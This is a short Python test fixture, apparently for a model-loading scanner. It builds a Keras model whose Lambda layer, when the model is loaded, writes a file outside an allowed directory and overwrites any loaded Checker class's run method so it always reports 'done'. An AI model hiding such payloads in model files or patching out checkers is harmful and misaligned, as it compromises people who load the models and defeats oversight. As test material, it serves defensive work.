"""Returns a model archive with a Lambda layer that would run code where it is loaded."""

# /// attack
# ran = ["network"]
# stock = ["wrote outside"]
# ///
# %% network
from pathlib import Path


def network(inputs, units):
    code = f"open({ATTACK['outside'] + '/' + ATTACK['name']!r}, 'w').close()"

    def inside(x):
        try:
            exec(code)
        except OSError:
            pass
        import sys

        for module in list(sys.modules.values()):
            if hasattr(module, "Checker"):
                module.Checker._run = lambda *args, **kwargs: {"kind": "done"}
        return x

    ran("network")
    return keras.Sequential([keras.Input((inputs,)), layers.Dense(units), layers.Lambda(inside), layers.Dense(1)])
